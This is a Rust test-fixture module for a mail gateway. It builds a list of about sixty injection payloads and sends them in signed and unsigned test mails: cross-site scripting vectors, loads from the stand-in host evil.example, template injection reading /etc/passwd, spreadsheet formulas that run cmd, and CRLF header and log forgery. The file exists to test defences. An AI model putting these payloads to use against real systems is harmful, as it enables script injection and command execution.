//! Sixty values that a careless page would carry out: row W3 of security.md. A value that runs sets `globalThis.hostile`, opens
//! a dialog, or asks a foreign server.

use std::path::Path;

use super::world::{Organisation, World, plain};
use crate::certificates::{LEAF, MAIL, USAGE, Wanted, make};
use crate::mime::{entity, with_entity};
use crate::openssl::{self, Writing};
use crate::program::must_run;
use crate::scene::send;

/// The values; each in one place of its own, and all of them in every kind of place.
pub const VALUES: &[&str] = &[
    // Script elements.
    "<script>alert(1)</script>",
    "\"><script>globalThis.hostile=2</script>",
    "</title><script>alert(3)</script>",
    "</textarea><script>alert(4)</script>",
    "<scr<script>ipt>alert(5)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>globalThis.hostile='7'//",
    "%3Cscript%3Ealert(8)%3C/script%3E",
    "&lt;script&gt;alert(9)&lt;/script&gt;",
    "\u{ff1c}script\u{ff1e}alert(10)\u{ff1c}/script\u{ff1e}",
    "<script type=module>import('//evil.example/11.js')</script>",
    "]]><script>alert(12)</script>",
    // Attributes that run.
    "<img src=x onerror=alert(13)>",
    "\" onmouseover=\"alert(14)\" x=\"",
    "' onfocus='alert(15)' autofocus='",
    "<body onload=alert(16)>",
    "<input autofocus onfocus=globalThis.hostile=17>",
    "<details open ontoggle=alert(18)>",
    "<video><source onerror=alert(19)></video>",
    "<a href=# onclick=alert(20)>x</a>",
    "<div style=\"background:url(//evil.example/21)\">",
    "<p style=animation-name:x onanimationstart=alert(22)>",
    "<marquee onstart=alert(23)>",
    "<select autofocus onfocus=alert(24)>",
    // SVG, MathML and frames.
    "<svg onload=alert(25)>",
    "<svg><script>alert(26)</script></svg>",
    "<svg><a xlink:href=javascript:alert(27)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(28) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(29)>",
    "<iframe srcdoc='<script>parent.hostile=30</script>'></iframe>",
    "<object data=//evil.example/31></object>",
    "<embed src=//evil.example/32>",
    // Foreign loads and forms.
    "<img src=//evil.example/33>",
    "<link rel=stylesheet href=//evil.example/34.css>",
    "<style>@import '//evil.example/35.css';</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/37\">",
    "<form action=//evil.example/38><button>",
    "<link rel=prefetch href=//evil.example/39>",
    // Links that run.
    "javascript:alert(40)",
    "java\tscript:alert(41)",
    "data:text/html,<script>alert(42)</script>",
    "vbscript:msgbox(43)",
    // Templates and catalogues.
    "{{ 7*7 }}{% include \"/etc/passwd\" %}",
    "{ $value }{ -brand }{ $n -> *[other] x }",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{{constructor.constructor('alert(47)')()}}",
    // Text that is shown as something else.
    "\u{202e}gnp.exe",
    "\u{2066}\u{2069}\u{200b}\u{feff}hidden",
    "a\u{0}b",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "\u{1b}[2J\u{1b}[31mred",
    // Formulas of spreadsheets.
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    // Lines of a log, and of a header.
    "x\r\n2026-11-22T00:00:00Z  INFO forged: yes",
    "x\r\nBcc: victim@example.com\r\n\r\n<script>alert(60)</script>",
];

/// A very long one, beside them.
pub fn long() -> String {
    "<b>".repeat(1000)
}

/// A value as a name in a certificate: `openssl` takes `/` and `+` apart, and no NUL fits into an argument.
pub fn in_subject(value: &str) -> String {
    let value: String = value
        .chars()
        .filter(|char| *char != '\0')
        .take(60)
        .collect();
    value
        .replace('\\', "\\\\")
        .replace('/', "\\/")
        .replace('+', "\\+")
}

/// A value as an address in a certificate: what has a meaning in a list of `openssl` is left out.
pub fn uri(value: &str) -> String {
    let is_taken = |char: &char| char.is_ascii_graphic() && !",;$\\#".contains(*char);
    let own: String = value.chars().filter(is_taken).collect();
    format!("https://partner.example/{own}")
}

/// A field of a header with any value in it (RFC 2047); CR and LF inside stay.
pub fn word(value: &str) -> String {
    let base64 = must_run("openssl", &["base64", "-e", "-A"], value.as_bytes());
    format!("=?utf-8?B?{}?=", String::from_utf8(base64).unwrap())
}

/// Mails that a partner signs with a certificate that has a value in its names; Subject and From show it, too.
pub fn signed_mails(world: &World, of: &Organisation, directory: &Path) {
    for (number, value) in VALUES.iter().enumerate() {
        let from = of.theirs(&format!("hostile{number}"));
        let subject = format!("/O={}/CN={}", in_subject(value), in_subject(value));
        let alternative = format!("subjectAltName=email:{from}");
        let wanted = Wanted {
            issuer: Some(&of.partner),
            subject: &subject,
            extensions: &[LEAF, USAGE, MAIL, &alternative],
            ..Wanted::default()
        };
        let identity = make(directory, &format!("hostile{number}"), &wanted);
        let mail = mail(&from, &of.own("anna"), value);
        let signed = openssl::sign(&entity(&mail), &identity, None, false, Writing::Der);
        let reply = send(
            world.gateway.inbound,
            &from,
            &[&of.own("anna")],
            &with_entity(&mail, &signed),
        );
        assert_eq!(reply.code, 250, "{value:?}: {reply:?}");
    }
}

/// A mail with a value wherever it fits: display name, Subject, file name, text and HTML.
pub fn mail(from: &str, to: &str, value: &str) -> Vec<u8> {
    let shown = word(value);
    format!(
        "From: {shown} <{from}>\r\nTo: {to}\r\nSubject: {shown}\r\nMessage-ID: <{from}>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{}\r\n--b\r\nContent-Type: image/svg+xml; name=\"{shown}\"\r\n\
         Content-Disposition: attachment; filename=\"{shown}\"\r\n\r\n<svg onload=\"alert(1)\"/>\r\n--b--\r\n",
        base64(&format!("<p>{value}</p>")),
    )
    .into_bytes()
}

fn base64(text: &str) -> String {
    let out = must_run("openssl", &["base64", "-e"], text.as_bytes());
    String::from_utf8_lossy(&openssl::crlf(&out))
        .trim_end()
        .to_owned()
}

/// Mails that the organisation's server refuses: they are held, to be looked at.
pub fn held_mails(world: &World, of: &Organisation) {
    for (number, value) in VALUES.iter().enumerate().step_by(3) {
        let from = of.theirs(&format!("held{number}"));
        let to = of.own("boris");
        let reply = send(
            world.gateway.inbound,
            &from,
            &[&to],
            &mail(&from, &to, value),
        );
        assert_eq!(reply.code, 250, "{value:?}: {reply:?}");
    }
    // Lines as a stranger writes them, without any encoding.
    for (number, value) in VALUES.iter().enumerate() {
        let one_line: String = value.chars().filter(|char| !char.is_control()).collect();
        let from = of.theirs(&format!("raw{number}"));
        let to = of.own("boris");
        let mut mail = plain(&from, &to, &one_line, &one_line);
        mail.splice(0..0, format!("X-Raw: {one_line}\r\n").into_bytes());
        if number % 6 == 0 {
            send(world.gateway.inbound, &from, &[&to], &mail);
        }
    }
}
